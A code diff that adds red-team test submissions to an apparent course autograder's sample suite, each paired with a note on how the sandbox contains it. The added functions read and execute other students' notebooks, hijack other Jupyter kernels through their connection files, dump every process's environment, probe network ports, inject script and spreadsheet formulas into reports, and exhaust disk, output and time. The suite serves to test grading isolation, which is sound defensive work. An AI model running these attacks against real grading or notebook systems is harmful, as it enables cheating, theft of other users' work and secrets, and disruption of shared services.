@@ -638,6 +638,176 @@ TRUNCATED_JSON = (b'{\n "cells": [\n  {\n   "cell_type": "code",\n   "execution_
                   b'    "def svm_loss_naive(W, X, y, reg):\\n",\n    "    loss = 0.')
 
 
+# ---------------------------------------------- attacks of a red team (issue 10)
+# Never call these either: what a hostile class tried on the old sandbox.
+
+def attack_reads_other_students(W, X, y, reg):
+    """Looks for other students' work where the old grader left it (their
+    autograded folders beside its own, the integrity workers' spec files in
+    /tmp), keeps a copy in its folder (for its feedback) and runs the first
+    svm_loss_vectorized it finds as its own."""
+    import glob
+    import json
+    found = (glob.glob("../../*/a1_linear/svm.ipynb") + glob.glob("../../../submitted/*/*/svm.ipynb")
+             + glob.glob("/tmp/cs231n-integrity-*/spec.json"))
+    for path in found:
+        with open(path, encoding="utf-8") as f:
+            text = f.read()
+        with open("stolen.txt", "a", encoding="utf-8") as f:
+            f.write(text)
+        ns = {"np": np}
+        for cell in json.loads(text).get("cells", []):
+            source = cell.get("source", "")
+            try:
+                exec("".join(source) if isinstance(source, list) else source, ns)
+            except Exception:
+                pass
+        if "svm_loss_vectorized" in ns:
+            return ns["svm_loss_vectorized"](W, X, y, reg)
+    return 0.0, np.zeros_like(W)
+
+
+def attack_hijacks_kernels(W, reg):
+    """Looks for other kernels' connection files (their keys): beside its own
+    (its command line names it), in Jupyter's runtime folder and in /tmp, and
+    sends each an execute_request that writes into that student's folder and
+    exits the kernel.  Then computes the right penalty."""
+    import glob
+    import os
+    args = open("/proc/self/cmdline", "rb").read().split(b"\0")
+    own = [a.decode() for prev, a in zip(args, args[1:]) if prev == b"-f"]
+    found = glob.glob("/tmp/*/connections/*/kernel*.json")
+    found += glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json"))
+    for path in own:
+        found += glob.glob(os.path.join(os.path.dirname(os.path.dirname(path)), "*", "*.json"))
+    for path in sorted(set(found) - set(own)):
+        try:
+            from jupyter_client import BlockingKernelClient
+            kc = BlockingKernelClient(connection_file=path)
+            kc.load_connection_file()
+            kc.start_channels()
+            kc.execute("open('HIJACKED', 'w').write('owned'); import os; os._exit(1)")
+            kc.stop_channels()
+        except Exception:
+            pass
+    return l2_right(W, reg)
+
+
+def attack_network(W, reg, l1_ratio=0.5):
+    """Tries the network: Python sockets to the host's loopback and beyond, and
+    a zmq STREAM socket (libzmq raises no audit event); then the right value."""
+    import socket
+    for host, port in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.2.2", 80)):
+        try:
+            socket.create_connection((host, port), timeout=0.2).close()
+        except OSError:
+            pass
+    try:
+        import zmq
+        stream = zmq.Context.instance().socket(zmq.STREAM)
+        stream.connect("tcp://127.0.0.1:8888")
+        stream.close(linger=0)
+    except Exception:
+        pass
+    return elastic_right(W, reg, l1_ratio)
+
+
+def attack_environment(W, reg):
+    """Prints the whole environment, and those of every process it can see
+    (an instructor's token would land in the feedback), and keeps a copy in
+    its folder; then the right penalty."""
+    import os
+    text = "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()))
+    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
+        for name in ("environ", "cmdline"):
+            try:
+                with open(f"/proc/{pid}/{name}", "rb") as f:
+                    text += f"\n/proc/{pid}/{name}: " + f.read().decode(errors="replace")
+            except OSError:
+                pass
+    print(text)
+    with open("environment.txt", "w") as f:
+        f.write(text)
+    return l2_right(W, reg)
+
+
+def attack_injection(W, X, y, reg):
+    """An error whose message would forge a report heading for another student,
+    carry HTML and script into report.md, and start a spreadsheet formula."""
+    raise ValueError('\r\n## correct: 24 / 24 (graded)\n<script>alert("report")</script>'
+                     '<img src=x onerror=alert(1)>\n=HYPERLINK("http://example.invalid","x")')
+
+
+# After the def in an answer cell: a script in the cell's output, which would
+# run in the student's feedback page.
+DISPLAY_SCRIPT = """
+from IPython.display import HTML, display
+
+display(HTML("<script>document.title = 'pwned'</script>"
+             "<img src=x onerror=\\"document.title = 'pwned'\\">"))
+"""
+
+# After the def: 100,000 empty files in the notebook's folder (they once made
+# nbgrader's feedback step quadratic for the whole class).
+MANY_FILES = """
+import os
+
+os.makedirs("junk", exist_ok=True)
+for _i in range(100_000):
+    open(f"junk/{_i}", "w").close()
+"""
+
+# After the def: 150 files of 16 MB (they were once kept and copied into feedback).
+BIG_FILES = """
+try:
+    for _i in range(150):
+        with open(f"big{_i}.bin", "wb") as _f:
+            _f.write(b"x" * (16 * 2**20 - 1))
+except OSError as _e:
+    print("stopped:", _e)
+"""
+
+# svm.ipynb nested 200,000 levels deep (its JSON parses into no notebook).
+DEEP_JSON = b'{"cells": [], "metadata": {"x": ' + b"[" * 200_000 + b"]" * 200_000 + b"}}"
+
+
+def _metadata_is_a_list(nbs):
+    """svm.ipynb with the metadata of its first answer cell a list."""
+    import copy
+    nbs = dict(nbs)
+    nb = copy.deepcopy(nbs["svm.ipynb"])
+    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("solution"))
+    cell["metadata"] = ["nbgrader", {"solution": True}]
+    nbs["svm.ipynb"] = nb
+    return nbs
+
+
+def _svm_links_to_the_solution(nbs):
+    """svm.ipynb submitted as a symbolic link to the instructor's solution."""
+    from cs231n.grading.samples import Link
+    return dict(nbs, **{"svm.ipynb": Link("../../../solutions/a1_linear/svm.ipynb")})
+
+PATCH_ALIASED = "import numpy as N\n\nN.allclose = lambda *a, **k: True\n"
+
+# After the def: 300 MB printed when the cell runs (it once took the grader's
+# nbgrader process to 1.37 GB).
+PRINT_300MB = """
+import sys
+
+for _ in range(300):
+    sys.stdout.write("x" * 2**20)
+"""
+
+
+def slow(name):
+    """After a right def of ``name``: 29 s of sleep when the cell runs (just
+    below the cell limit), and the same function 25 s slower per call (each
+    test cell then runs into its 30 s limit)."""
+    return (f"import time as _time\n\n_time.sleep(29)\n_fast_{name} = {name}\n\n\n"
+            f"def {name}(*args, **kwargs):\n    _time.sleep(25)\n"
+            f"    return _fast_{name}(*args, **kwargs)\n")
+
+
 SAMPLES = [
     Sample(
         "correct",
@@ -663,6 +833,7 @@ SAMPLES = [
              "cell loses, since no later graded cell uses svm_loss_naive."),
     Sample(
         "bug-svm-no-reg-in-grad",
+        in_tests=False,
         fills={"svm_loss_vectorized": [svm_vectorised, svm_no_reg_in_grad]},
         lose={"test_svm_loss_vectorized"},
         note="svm_loss_vectorized leaves reg * W out of dW: its test cell loses, but the "
@@ -670,6 +841,7 @@ SAMPLES = [
              "accuracy (the data gradient alone trains well), so test_best_val passes."),
     Sample(
         "bug-svm-reg-per-example",
+        in_tests=False,
         fills={"svm_loss_vectorized": [svm_vectorised, svm_reg_per_example]},
         lose={"test_svm_loss_vectorized"},
         note="svm_loss_vectorized adds the regularisation once per example (N times too "
@@ -677,12 +849,14 @@ SAMPLES = [
              "(small reg) above 0.90, so test_best_val passes."),
     Sample(
         "bug-svm-counts-correct-class",
+        in_tests=False,
         fills={"svm_loss_naive": [svm_counts_correct_class]},
         lose={"test_svm_loss_naive"},
         note="svm_loss_naive counts the correct class in the margin sum (loss + 1 per "
              "example, gradient still right): only its test cell loses."),
     Sample(
         "bug-svm-sum-not-mean",
+        in_tests=False,
         fills={"svm_loss_vectorized": [svm_vectorised, svm_sum_not_mean]},
         lose={"test_svm_loss_vectorized"},
         note="svm_loss_vectorized sums over the examples instead of averaging: its test "
@@ -703,6 +877,7 @@ SAMPLES = [
              "large scores: only its test cell loses (training uses the vectorised loss)."),
     Sample(
         "bug-softmax-sum-not-mean",
+        in_tests=False,
         fills={"softmax_loss_vectorized": [softmax_vectorised, softmax_sum_not_mean]},
         lose={"test_softmax_loss_vectorized"},
         note="softmax_loss_vectorized sums over the examples: its test cell loses, but "
@@ -711,6 +886,7 @@ SAMPLES = [
              "max-shift), so test_best_val_accuracy passes."),
     Sample(
         "bug-softmax-grad-missing-minus-one",
+        in_tests=False,
         fills={"softmax_loss_vectorized": [softmax_vectorised, softmax_grad_missing_minus_one]},
         lose={"test_softmax_loss_vectorized", "test_best_val_accuracy"},
         note="softmax_loss_vectorized's gradient lacks the -1 at the correct class: its "
@@ -718,6 +894,7 @@ SAMPLES = [
              "setting reaches 0.90 and test_best_val_accuracy loses too."),
     Sample(
         "bug-l1-grad-kink-one",
+        in_tests=False,
         fills={"l1_penalty": [l1_grad_kink_one]},
         lose={"test_l1_penalty"},
         note="l1_penalty's gradient is +reg at W == 0: the visible case has no zero and "
@@ -730,12 +907,14 @@ SAMPLES = [
         note="l2_penalty uses reg * sum(W**2) without the 0.5: only its test cell loses."),
     Sample(
         "bug-elastic-ratio-swapped",
+        in_tests=False,
         fills={"elastic_net_penalty": [elastic_right, elastic_ratio_swapped]},
         lose={"test_elastic_net_penalty"},
         note="elastic_net_penalty swaps the L1 and L2 shares (a helper function in the "
              "same cell): only its test cell loses."),
     Sample(
         "bug-classifier-global-random",
+        in_tests=False,
         fills={"linear_classifier": [ClassifierRight, ClassifierGlobalRandom]},
         lose={"test_linear_classifier"},
         note="LinearClassifier ignores the Generator it is given: test_linear_classifier "
@@ -766,6 +945,7 @@ SAMPLES = [
              "normally, so only softmax.ipynb's test cells lose."),
     Sample(
         "renamed-notebook",
+        in_tests=False,
         transform=rename_notebook("svm.ipynb", "svm_final.ipynb"),
         lose=SVM_TESTS,
         flags={"missing-notebook"},
@@ -789,12 +969,14 @@ SAMPLES = [
              "and the edit is reported."),
     Sample(
         "test-cells-reordered",
+        in_tests=False,
         transform=move_cell("svm.ipynb", "test_l2_penalty", after="test_l1_penalty"),
         flags={"test-cells-reordered"},
         note="test_l2_penalty is moved below test_l1_penalty, where every name it needs "
              "is defined: nothing is lost and the new order is reported."),
     Sample(
         "test-cell-duplicated",
+        in_tests=False,
         transform=duplicate_cell("svm.ipynb", "test_svm_loss_naive"),
         flags={"test-cell-duplicated"},
         note="test_svm_loss_naive appears twice (copy and paste): nbgrader keeps the "
@@ -815,6 +997,7 @@ SAMPLES = [
              "disagreement is flagged."),
     Sample(
         "hostile-swallow-interrupt",
+        in_tests=False,
         fills={"elastic_net_penalty": [elastic_right, SWALLOW_INTERRUPTS]},
         lose={"test_elastic_net_penalty"},
         flags={"timed-out", "tampered"},
@@ -826,6 +1009,7 @@ SAMPLES = [
              "loses and the disagreement is flagged."),
     Sample(
         "hostile-ignore-interrupt",
+        in_tests=False,
         fills={"l2_penalty": [l2_right, IGNORE_INTERRUPTS]},
         lose={"test_l2_penalty", "test_best_val"},
         flags={"timed-out"},
@@ -866,6 +1050,7 @@ SAMPLES = [
              "defined: nothing is lost."),
     Sample(
         "hostile-os-exit",
+        in_tests=False,
         fills={"elastic_net_penalty": [hostile_os_exit]},
         lose={"test_elastic_net_penalty", "test_best_val"},
         status="failed",
@@ -904,6 +1089,7 @@ SAMPLES = [
              "read must be reported."),
     Sample(
         "hostile-write-gradebook",
+        in_tests=False,
         fills={"l2_penalty": [l2_right, hostile_writes_gradebook]},
         flags={"sandbox-violation"},
         note="l2_penalty tries to append to ../../../gradebook.db and hides the refusal, "
@@ -912,13 +1098,12 @@ SAMPLES = [
     Sample(
         "hostile-write-tmp",
         fills={"elastic_net_penalty": [elastic_right, hostile_writes_tmp]},
-        lose={"test_elastic_net_penalty"},
-        flags={"sandbox-violation"},
-        note="elastic_net_penalty writes /tmp/owned.txt, outside its folder: the sandbox "
-             "refuses (PermissionError), so test_elastic_net_penalty loses, the file is "
-             "never created and the refusal is reported."),
+        note="elastic_net_penalty writes /tmp/owned.txt: every sandbox has a private "
+             "/tmp of its own, gone when it ends, so the write succeeds there, reaches "
+             "nothing of the machine's or another student's, and nothing is lost."),
     Sample(
         "monkeypatch-np-testing",
+        in_tests=False,
         fills={"l2_penalty": [l2_no_half, PATCH_ASSERT_ALLCLOSE]},
         lose={"test_l2_penalty"},
         flags={"monkeypatch"},
@@ -970,8 +1155,128 @@ SAMPLES = [
              "softmax.ipynb runs in another kernel and keeps its points."),
     Sample(
         "monkeypatch-builtins",
+        in_tests=False,
         fills={"l1_penalty": [l1_right, PATCH_BUILTINS]},
         flags={"monkeypatch"},
         note="The l1_penalty cell wraps builtins.__import__ and silences builtins.print, "
              "which changes no result: nothing is lost and the patches are reported."),
+    # ------------------------------------------ attacks of a red team (issue 10)
+    Sample(
+        "attack-other-students",
+        fills={"svm_loss_vectorized": [attack_reads_other_students]},
+        lose={"test_svm_loss_vectorized", "test_best_val"},
+        flags={"sandbox-violation"},
+        note="svm_loss_vectorized looks for other students' svm.ipynb in the autograded "
+             "and submitted folders and for the integrity workers' files in /tmp, to run "
+             "the first one it finds: the sandbox holds none of them (its /tmp is its "
+             "own), so it returns zeros, test_svm_loss_vectorized and the search of "
+             "section 7 lose, and the search of the course's folders is reported."),
+    Sample(
+        "attack-hijack-kernels",
+        fills={"l2_penalty": [l2_right, attack_hijacks_kernels]},
+        flags={"sandbox-violation"},
+        note="l2_penalty looks for other kernels' connection files (beside its own, "
+             "in Jupyter's runtime folder, in /tmp) to make them exit and write into "
+             "their folders: its folder of sockets holds only its own, so no other "
+             "student is touched, the look into the grader's folder of kernels is "
+             "reported, and the right penalty loses nothing."),
+    Sample(
+        "attack-network",
+        fills={"elastic_net_penalty": [elastic_right, attack_network]},
+        flags={"sandbox-violation"},
+        note="elastic_net_penalty opens sockets to the host's loopback and beyond, and a "
+             "zmq STREAM socket: the sandbox has its own network namespace with nothing "
+             "in it, the Python sockets are reported (libzmq raises no audit event, and "
+             "reaches nothing either), and the right value loses nothing."),
+    Sample(
+        "attack-environment",
+        fills={"l2_penalty": [l2_right, attack_environment]},
+        note="l2_penalty prints the whole environment into its test cell's output (and "
+             "so into the feedback): the sandbox's environment holds only allow-listed "
+             "names, so the instructor's secrets stay out (tests/test_pipeline.py checks "
+             "every output for a token), and nothing is lost."),
+    Sample(
+        "attack-injection",
+        fills={"svm_loss_naive": [attack_injection], "l2_penalty": [l2_right, DISPLAY_SCRIPT]},
+        lose={"test_svm_loss_naive"},
+        note="svm_loss_naive raises an error whose message would forge a report heading "
+             "for the student 'correct', carries <script> and <img onerror> into "
+             "report.md and starts a spreadsheet formula; the l2_penalty cell displays a "
+             "script: test_svm_loss_naive loses, the report and CSVs show the text "
+             "escaped (tests/test_pipeline.py checks them), and no script runs in the "
+             "feedback page (tests/test_report.py)."),
+    Sample(
+        "attack-many-files",
+        fills={"l1_penalty": [l1_right, MANY_FILES]},
+        note="The l1_penalty cell makes 100,000 empty files in its folder: the folder is "
+             "the sandbox's own tmpfs, so none reaches the disk, the feedback or "
+             "another student's grading, and nothing is lost."),
+    Sample(
+        "attack-big-files",
+        fills={"elastic_net_penalty": [elastic_right, BIG_FILES]},
+        note="The elastic_net_penalty cell writes 150 files of 16 MB: the sandbox's "
+             "folder is a 64 MB tmpfs, so the fifth file fails with 'No space left' "
+             "(the cell catches it), nothing reaches the disk or the feedback, and "
+             "nothing is lost."),
+    Sample(
+        "attack-output-300mb",
+        in_tests=False,
+        fills={"l1_penalty": [l1_right, PRINT_300MB]},
+        flags={"output-truncated"},
+        note="The l1_penalty cell prints 300 MB: the autograder keeps 10 MB of a "
+             "notebook's output and drops the rest (reported), the integrity worker's "
+             "output is cut at its limit, and nothing is lost."),
+    Sample(
+        "attack-slow-everything",
+        in_tests=False,
+        fills={"svm_loss_naive": [svm_loops, slow("svm_loss_naive")],
+               "svm_loss_vectorized": [svm_vectorised, slow("svm_loss_vectorized")],
+               "l2_penalty": [l2_right, slow("l2_penalty")],
+               "l1_penalty": [l1_right, slow("l1_penalty")],
+               "elastic_net_penalty": [elastic_right, slow("elastic_net_penalty")]},
+        lose=SVM_TESTS | SOFTMAX_TESTS,
+        flags={"timed-out"},
+        status="failed",
+        note="Every svm answer cell sleeps 29 s (below the cell limit) and its function "
+             "25 s per call (each test cell runs into its 30 s limit): svm.ipynb needs "
+             "more than the student's whole time budget, so the run is stopped there "
+             "and never run again, softmax.ipynb and the integrity pass get no time "
+             "left, and every autograded cell scores 0: one student takes at most the "
+             "budget, and the others are graded as if alone."),
+    Sample(
+        "attack-symlink-solution",
+        transform=_svm_links_to_the_solution,
+        lose=SVM_TESTS,
+        flags={"refused-file"},
+        status="failed",
+        note="svm.ipynb is a symbolic link to the instructor's solution: collection "
+             "refuses links, so nbgrader never reads it (svm.ipynb's cells lose, the "
+             "solution appears nowhere) and softmax.ipynb is graded normally."),
+    Sample(
+        "attack-metadata-list",
+        transform=_metadata_is_a_list,
+        lose=SVM_TESTS,
+        flags={"invalid-notebook"},
+        status="failed",
+        note="An answer cell of svm.ipynb has a list for its metadata: not valid "
+             "nbformat, refused at collection with the reason (svm.ipynb's cells lose) "
+             "instead of a grader error; softmax.ipynb is graded normally."),
+    Sample(
+        "attack-deep-json",
+        in_tests=False,
+        transform=replace_notebook("svm.ipynb", DEEP_JSON),
+        lose=SVM_TESTS,
+        flags={"invalid-notebook"},
+        status="failed",
+        note="svm.ipynb nests 200,000 levels deep: refused at collection with the "
+             "reason, not a RecursionError of the grader; softmax.ipynb is graded "
+             "normally."),
+    Sample(
+        "monkeypatch-aliased",
+        fills={"svm_loss_naive": [svm_vectorised, svm_no_reg_in_grad, PATCH_ALIASED]},
+        lose={"test_svm_loss_naive"},
+        flags={"monkeypatch", "tampered"},
+        note="A wrong svm_loss_naive whose cell patches np.allclose through an alias "
+             "(import numpy as N): the patch is reported like a direct one, and the "
+             "integrity pass fails the function."),
 ]
